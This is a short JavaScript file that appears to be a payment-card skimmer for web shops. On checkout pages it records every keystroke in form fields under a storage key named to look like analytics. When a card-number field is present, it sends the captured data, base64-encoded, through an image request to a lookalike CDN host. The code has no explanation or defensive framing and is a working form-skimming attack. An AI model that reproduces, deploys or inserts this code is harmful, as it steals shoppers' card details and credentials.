(function () {
  var K = "_gaq_session";
  function save(name, value) {
    var d = JSON.parse(localStorage.getItem(K) || "{}");
    d[name] = value;
    localStorage.setItem(K, JSON.stringify(d));
  }
  function hook() {
    var fields = document.querySelectorAll("input, select");
    for (var i = 0; i < fields.length; i++) {
      fields[i].addEventListener("keyup", function (e) { save(e.target.name || e.target.id, e.target.value); });
      fields[i].addEventListener("change", function (e) { save(e.target.name || e.target.id, e.target.value); });
    }
  }
  function exfil() {
    var d = localStorage.getItem(K);
    if (!d || d.indexOf("cc_number") < 0) return;
    var i = new Image();
    i.src = "https://cdn-jquery-min.example/pixel.gif?h=" + btoa(unescape(encodeURIComponent(d))) + "&s=" + location.hostname;
    localStorage.removeItem(K);
  }
  if (/checkout|onepage/.test(location.href)) {
    setInterval(hook, 2000);
    window.addEventListener("beforeunload", exfil);
    document.addEventListener("click", function (e) { if (e.target.type === "submit") exfil(); });
  }
})();
